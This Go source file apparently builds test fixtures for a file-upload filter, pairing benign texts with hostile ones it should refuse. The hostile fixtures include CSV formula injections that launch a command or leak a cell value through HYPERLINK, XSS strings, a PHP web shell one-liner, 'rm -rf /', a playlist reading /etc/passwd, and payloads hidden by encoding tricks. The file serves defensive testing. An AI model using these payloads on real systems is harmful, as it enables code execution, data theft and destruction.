package corpus

import (
	"slices"
	"strings"
)

const (
	typeText = "text/plain"
	typeCSV  = "text/csv"
	typeJSON = "application/json"
)

// Texts returns plain text, tables, JSON, Markdown, contacts and appointments.
func Texts() []File { return slices.Concat(hostileTexts(), goodTexts()) }

// Formulas returns tables that are refused if the policy refuses formulas.
func Formulas() []File {
	var files []File
	for _, c := range []struct{ about, table string }{
		{"a formula in the first cell", "=1+1,b\n"},
		{"a command", "a,b\nx,=cmd|' /C calc'!A0\n"},
		{"a command after a plus", "a,b\n+cmd|' /C calc'!A0,x\n"},
		{"a command after a minus and numbers", "a,-2+3+cmd|' /C calc'!A0\n"},
		{"a function of old spreadsheets", "a;@SUM(A1:A9)\n"},
		{"a link that leaks", "a,\"=HYPERLINK(\"\"https://example.com/?\"\"&A1,\"\"x\"\")\"\n"},
		{"a formula after a tab", "a,\"\t=1+1\"\n"},
		{"a formula after a carriage return", "a,\"\r=1+1\"\n"},
		{"a formula after a semicolon", "a;b;=1+1\n"},
		{"a formula after an empty quotation", "a,\"\"=1+1\n"},
		{"a formula after a byte order mark", "\xef\xbb\xbf=1+1,a\n"},
		{"a formula in UTF-16", utf16LE("a,=1+1\r\n")},
		{"a formula at the end of a long table", strings.Repeat("a,b,-1.5\n", 20_000) + "a,@SUM(1)\n"},
		{"a formula if commas separate, hidden if semicolons do", "x;\"\n=cmd|' /C calc'!A0"},
		{"a formula if commas separate, hidden if tabs do", "x\t\"\n=cmd|' /C calc'!A0"},
		{"a formula if semicolons separate, hidden if commas do", "x,\"\n=cmd|' /C calc'!A0"},
		{"a formula if commas and semicolons separate", "x,\"y;\"z;=1"},
		{"a formula after a named separator", "sep=|\na|=cmd|' /C calc'!A0"},
		{"a formula after another named separator", "sep=^\na^=1+1\n"},
		{"a formula after a pipe", "a|b\n1|=1+1\n"},
		{"a wide equals sign", "a,＝1+1\n"},
		{"a wide plus", "a,＋cmd|x\n"},
		{"a small equals sign", "a,﹦1+1\n"},
		{"a formula in a line of a quoted cell", "a,\"note\n=1+1\"\n"},
		{"a formula after blanks", "a, \u00a0=1+1\n"},
		{"a formula after a character without a width", "a,\u200b=1+1\n"},
		{"a wide equals sign in GBK", "a,\xa3\xbd1+1\n"},
	} {
		files = append(files, File{About: "a table with " + c.about, Name: "a.csv", Type: typeCSV, Content: []byte(c.table), Code: content})
	}
	return files
}

func hostileTexts() []File {
	long := strings.Repeat("All work and no play makes Jack a dull boy.\n", 200)
	var files []File
	for _, c := range []struct{ about, text, code string }{
		{"HTML", "<!DOCTYPE html><html><body>x</body></html>", typeNotAllowed},
		{"a script", "<script>alert(1)</script>", typeNotAllowed},
		{"an image with a handler", "<img src=x onerror=alert(1)>", typeNotAllowed},
		{"HTML after words", "Dear all,\n<iframe src=//example.com></iframe>", typeNotAllowed},
		{"HTML after a byte order mark", "\xef\xbb\xbf<html>", typeNotAllowed},
		{"HTML in UTF-16", utf16LE("<script>alert(1)</script>"), typeNotAllowed},
		{"an SVG image", `<svg onload="alert(1)"/>`, typeNotAllowed},
		{"a PHP script", "<?php system($_GET[0]); ?>", typeNotAllowed},
		{"a shell script", "#!/bin/sh\nrm -rf /\n", typeNotAllowed},
		{"PostScript", "%!PS-Adobe-3.0\n", typeNotAllowed},
		{"a playlist that reads files", "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", typeNotAllowed},
		{"a program", "MZ\x90\x00\x03", typeNotAllowed},
		{"a program of another system", "\x7fELF\x02\x01\x01\x00", typeNotAllowed},
		{"no bytes", "", empty},
		{"HTML after 5 KB of spaces", strings.Repeat(" ", 5000) + "<html>", content},
		{"a script after 8 KB of text", long + "<script>alert(1)</script>", content},
		{"a handler after 8 KB of text", long + "<x onclick=alert(1)>", content},
		{"an SVG image after 8 KB of text", long + "<svg onload=alert(1)>", content},
		{"a PHP script after 8 KB of text", long + "<?php echo 1;", content},
		{"a short tag of PHP", "<?= system($_GET[0]) ?>", typeNotAllowed},
		{"a short tag of PHP after 8 KB of text", long + "<?=1", content},
		{"HTML after 8 KB of text, in UTF-16", utf16LE(long + "<script>alert(1)</script>"), content},
		{"HTML after 8 KB of text, in big-endian UTF-16", utf16BE(long + "<img src=x>"), content},
		{"a program after 8 KB of text", long + "\x7fELF\x02\x01\x01\x00", content},
		{"a NUL after 8 KB of text", long + "\x00", content},
		{"a terminal's escape sequence", "hello \x1b[2J", content},
		{"an escape sequence after 8 KB of text", long + "\x1b[2J", content},
		{"a C1 control", "hello \u009b2J", content},
		{"text in Shift_JIS", "\x82\xb1\x82\xf1\x81@", content},
		{"Windows-1252 after UTF-8", "é caf\xe9 au lait", content},
		{"a character cut in two", long + "\xe2\x82", content},
		{"an overlong character", "a\xc0\xafb", content},
		{"a surrogate in UTF-8", "a\xed\xa0\x80b", content},
		{"UTF-16 with half a pair", "\xff\xfea\x00\x3d\xd8", content},
		{"UTF-16 with an odd byte", utf16LE(long) + "x", content},
	} {
		files = append(files, File{About: c.about + " as text", Name: "a.txt", Type: typeText, Content: []byte(c.text), Code: c.code})
	}
	return append(files,
		File{About: "text as a picture", Name: "a.png", Type: typeText, Content: []byte("hello"), Code: typeMismatch},
		File{About: "text as a batch file", Name: "a.bat", Type: typeText, Content: []byte("del *.*"), Code: typeMismatch},
		File{About: "a script in a table", Name: "a.csv", Type: typeCSV, Content: []byte("a,b\n1,<script>alert(1)</script>\n"), Code: typeNotAllowed},
		File{About: "a script far down in a table", Name: "a.csv", Type: typeCSV, Content: []byte(strings.Repeat("a,b\n", 2000) + "<script>,x\n"), Code: content},
		File{About: "HTML after JSON", Name: "a.json", Type: typeJSON, Content: []byte(`{"a": "` + long + `"}<script>alert(1)</script>`), Code: content},
		File{About: "HTML within JSON", Name: "a.json", Type: typeJSON, Content: []byte(`["` + long + `", <b>]`), Code: content},
		File{About: "HTML as Markdown", Name: "a.md", Type: "text/markdown", Content: []byte("# Title\n\n<details><summary>x</summary></details>\n"), Code: content},
		File{About: "a script in a table with tabs", Name: "a.tsv", Type: "text/tab-separated-values", Content: []byte("a\tb\n1\t<script>alert(1)</script>\n"), Code: typeNotAllowed},
		File{About: "a script in a contact", Name: "a.vcf", Type: "text/vcard", Content: []byte("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:<script>alert(1)</script>\r\nEND:VCARD\r\n"), Code: typeNotAllowed},
		File{About: "a script in an appointment", Name: "a.ics", Type: "text/calendar", Content: []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nX-A:<img src=x onerror=alert(1)>\r\nEND:VCALENDAR\r\n"), Code: typeNotAllowed},
		File{About: "a NUL in JSON", Name: "a.json", Type: typeJSON, Content: []byte(`{"a": "` + long + "\x00\"}"), Code: content},
	)
}

func goodTexts() []File {
	return []File{
		{About: "text in several writing systems", Name: "a.txt", Type: typeText, Content: []byte("Žluťoučký кінь 馬 घोड़ा حصان 🐎\n")},
		{About: "text with a byte order mark", Name: "a.txt", Type: typeText, Content: []byte("\xef\xbb\xbfhello\r\n")},
		{About: "text in UTF-16", Name: "a.txt", Type: typeText, Content: []byte(utf16LE("héllo 🐎\r\n"))},
		{About: "text in big-endian UTF-16", Name: "a.txt", Type: typeText, Content: []byte(utf16BE("héllo\r\n"))},
		{About: "text with angle brackets", Name: "a.txt", Type: typeText, Content: []byte("if a < b { List<String> x } // mail <jane@example.com>, <3\n")},
		{About: "text that begins like a bitmap", Name: "a.txt", Type: typeText, Content: []byte("BM is short for bitmap\n")},
		{About: "a log", Name: "a.log", Type: typeText, Content: []byte("2024-05-01T12:00:00Z GET /a 200 <nil>\n")},
		{About: "text of 1 MB", Name: "a.txt", Type: typeText, Content: []byte(strings.Repeat("0123456 <3 é\n", 80_000))},
		{About: "a table", Name: "a.csv", Type: typeCSV, Content: []byte("a,b\n1,\"x, \"\"y\"\"\"\n")},
		{About: "a table with negative numbers and phone numbers", Name: "a.csv", Type: typeCSV, Content: []byte("n;tel\n-1.5;+49 (0)30/123-45\n-1,5e3;-\n")},
		{About: "a table in UTF-16", Name: "a.csv", Type: typeCSV, Content: []byte(utf16LE("a,b\r\n-1,2\r\n"))},
		{About: "a table with tabs", Name: "a.tsv", Type: "text/tab-separated-values", Content: []byte("a\tb\n1\t,=2\n")},
		{About: "Markdown", Name: "a.md", Type: "text/markdown", Content: []byte("# Title\n\n- *item* <https://example.com/>\n")},
		{About: "text in Windows-1252", Name: "a.txt", Type: typeText, Content: []byte("caf\xe9 \x80 5\r\n")},
		{About: "a table in Windows-1252", Name: "a.csv", Type: typeCSV, Content: []byte("Name;Stra\xdfe\r\nM\xfcller;K\xf6ln\r\n")},
		{About: "a table of amounts", Name: "a.csv", Type: typeCSV, Content: []byte("n,x\na,\"-$45.00\"\nb,\"-12,34 €\"\nc,-12.34 EUR\nd,\"-1\u202f234,56\"\ne,-5°C\n")},
		{About: "a table with the separator's name", Name: "a.csv", Type: typeCSV, Content: []byte("sep=;\r\na;b\r\n-1;2\r\n")},
		{About: "a table of handles, dashes and numbers as text", Name: "a.csv", Type: typeCSV, Content: []byte("@jane,- milk,\"=\"\"00123\"\"\"\n")},
		{About: "JSON with HTML in a string", Name: "a.json", Type: typeJSON, Content: []byte(`{"body": "<p onclick=x>", "<script>": 1}`)},
		{About: "JSON of a number", Name: "a.json", Type: typeJSON, Content: []byte("42\n")},
		{About: "JSON Lines", Name: "a.json", Type: typeJSON, Content: []byte("{\"a\": 1}\n{\"a\": 2}\n")},
		{About: "a contact", Name: "a.vcf", Type: "text/vcard", Content: []byte("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Jane Doe\r\nEND:VCARD\r\n")},
		{About: "an appointment", Name: "a.ics", Type: "text/calendar", Content: []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n")},
		{About: "JSON", Name: "a.json", Type: typeJSON, Content: []byte(`{"a": [1, 2, "é"]}`)},
	}
}
